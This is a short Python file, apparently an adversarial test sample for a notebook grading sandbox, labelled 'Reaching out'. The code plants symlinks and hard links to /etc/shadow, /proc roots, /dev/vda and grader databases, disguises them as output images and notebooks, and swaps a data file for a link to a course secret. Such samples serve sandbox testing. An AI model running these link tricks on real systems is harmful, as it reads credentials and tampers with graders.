# ruff: noqa
# Threat: Reaching out. Symbolic and hard links that lead out of the working directory, named as what a marker would open.
# Outcome: completed
# Marks: 8

# %% before double
import os
targets = ["@COURSE@/assessor.db", "@BAIT_IN_TMP@", "/etc/shadow", "/proc/1/root", "/proc/self/root/../..", "/dev/vda", "../../../../../.." + "@COURSE@/gradebook.db"]
for number, target in enumerate(targets):
    for place in (f"output-{number}.png", f"/tmp/planted-{number}", f"lab-{number}.ipynb"):
        os.symlink(target, place)
        try: print("reached:", target, open(place, "rb").read(40))
        except OSError: pass
    try:
        os.link(target, f"/tmp/hard-{number}")
        print("reached:", target)
    except OSError: pass
os.remove("data/points.csv")
os.symlink("@COURSE@/.secret", "data/points.csv")
os.mkfifo("planted-fifo")
